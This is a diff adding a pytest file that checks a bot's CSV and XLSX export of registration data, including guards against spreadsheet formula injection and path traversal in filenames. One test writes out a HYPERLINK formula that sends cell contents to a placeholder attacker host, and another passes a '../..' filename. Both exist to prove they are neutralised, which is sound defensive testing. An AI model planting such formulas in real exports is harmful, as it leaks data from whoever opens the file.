@@ -1,0 +1,145 @@
+"""The CSV and XLSX writers: Excel reads them right, and nothing a worker typed runs in it."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, datetime, time
+
+import pytest
+from openpyxl import load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from ffs_bot.exports import CSV_MIME, XLSX_MIME, Table, export_file, to_csv, to_xlsx
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+TABLE = Table(
+    title="Registrations",
+    header=("Factory", "Child", "Birth month", "Age", "First day", "Registered at", "In", "Notes"),
+    rows=[
+        ("SZ01", "小明", "2019-04", 8, date(2027, 7, 5), datetime(2027, 6, 2, 9, 7), None, None),
+        (
+            "SZ01",
+            'Ann, "Annie"\nLee',
+            "2020-11",
+            6,
+            date(2027, 7, 6),
+            datetime(2027, 6, 3, 18, 30),
+            time(8, 5),
+            "花生过敏",
+        ),
+    ],
+)
+
+
+def read_csv(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def read_xlsx(content: bytes) -> Worksheet:
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    assert isinstance(sheet, Worksheet)
+    return sheet
+
+
+def xml_chars(text: str) -> str:
+    """The characters of `text` that XML 1.0 allows."""
+    return "".join(
+        c
+        for c in text
+        if c in "\t\n\r" or " " <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c > "\uffff"
+    )
+
+
+def guarded(text: str) -> str:
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def test_csv_is_utf8_with_a_bom_and_crlf_lines_so_excel_reads_chinese() -> None:
+    content = to_csv(TABLE)
+    assert content.startswith(b"\xef\xbb\xbfFactory,Child,")
+    assert content.endswith(b"\r\n")
+    # The one line break inside a name is quoted; every other line ends in CRLF.
+    assert content.count(b"\r\n") == 3
+    assert read_csv(content) == [
+        list(TABLE.header),
+        ["SZ01", "小明", "2019-04", "8", "2027-07-05", "2027-06-02 09:07", "", ""],
+        [
+            "SZ01",
+            'Ann, "Annie"\nLee',
+            "2020-11",
+            "6",
+            "2027-07-06",
+            "2027-06-03 18:30",
+            "08:05",
+            "花生过敏",
+        ],
+    ]
+
+
+def test_xlsx_has_a_bold_frozen_header_real_dates_and_sensible_widths() -> None:
+    sheet = read_xlsx(to_xlsx(TABLE))
+    assert sheet.title == "Registrations"
+    assert sheet.freeze_panes == "A2"
+    assert [c.value for c in sheet[1]] == list(TABLE.header)
+    assert all(c.font.bold for c in sheet[1])
+    assert not any(c.font.bold for c in sheet[2])
+    first, second = sheet[2], sheet[3]
+    assert [c.value for c in first[:4]] == ["SZ01", "小明", "2019-04", 8]
+    # Days and times are cells Excel can sort and count, shown the way we wrote them.
+    assert first[4].is_date and first[4].value == datetime(2027, 7, 5)
+    assert first[4].number_format == "yyyy-mm-dd"
+    assert first[5].value == datetime(2027, 6, 2, 9, 7)
+    assert first[5].number_format == "yyyy-mm-dd hh:mm"
+    assert second[6].value == time(8, 5) and second[6].number_format == "hh:mm"
+    assert first[6].value is None
+    assert second[1].value == 'Ann, "Annie"\nLee'
+    widths = {col: sheet.column_dimensions[col].width for col in "ABCDEFGH"}
+    assert all(8 <= width <= 50 for width in widths.values()), widths
+    assert widths["F"] > widths["A"]  # "2027-06-02 09:07" is wider than "Factory"
+
+
+def test_xlsx_sheet_title_drops_what_excel_refuses() -> None:
+    table = Table("Roster: SZ01/2027 [summer] and a title far too long for a tab", ("a",), [])
+    title = read_xlsx(to_xlsx(table)).title
+    assert len(title) <= 31
+    assert not set(title) & set("[]:*?/\\")
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(start: str) -> None:
+    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    table = Table("T", ("Child",), [(text,), ("ok-" + text,)])
+    assert read_csv(to_csv(table))[1:] == [["'" + text], ["ok-" + text]]
+    sheet = read_xlsx(to_xlsx(table))
+    # In a workbook a line break is LF, as Excel writes it, even at the start.
+    lf = text.replace("\r", "\n")
+    assert [c.value for c in sheet["A"]] == ["Child", "'" + lf, "ok-" + lf]
+    assert {c.data_type for c in sheet["A"]} == {"s"}
+
+
+def test_naughty_strings_come_back_as_text_and_never_as_formulas(
+    naughty_strings: list[str],
+) -> None:
+    table = Table("T", ("Name", "Notes"), [(s, s) for s in naughty_strings])
+    rows = read_csv(to_csv(table))[1:]
+    assert rows == [[guarded(s), guarded(s)] for s in naughty_strings]
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    sheet = read_xlsx(to_xlsx(table))
+    found = [(c.value or "", c.data_type) for c in sheet["A"][1:]]
+    assert len(found) == len(naughty_strings)
+    assert not [c for c in sheet["A"] if c.data_type == "f"]
+    for text, (value, _type) in zip(naughty_strings, found, strict=True):
+        # XML cannot carry some control characters, U+FFFE or U+FFFF: those alone are dropped.
+        expected = guarded(xml_chars(text)).replace("\r\n", "\n").replace("\r", "\n")
+        assert value == expected, text
+
+
+def test_export_file_names_the_file_and_its_type() -> None:
+    csv_file = export_file(TABLE, "csv", "registrations-SZ01")
+    assert (csv_file.filename, csv_file.mime) == ("registrations-SZ01.csv", CSV_MIME)
+    assert csv_file.content == to_csv(TABLE)
+    xlsx_file = export_file(TABLE, "xlsx", "报名 SZ01/../2027")
+    assert (xlsx_file.filename, xlsx_file.mime) == ("报名_SZ01_.._2027.xlsx", XLSX_MIME)
+    assert read_xlsx(xlsx_file.content)["B2"].value == "小明"
+    assert export_file(TABLE, "csv", "../..").filename == "export.csv"
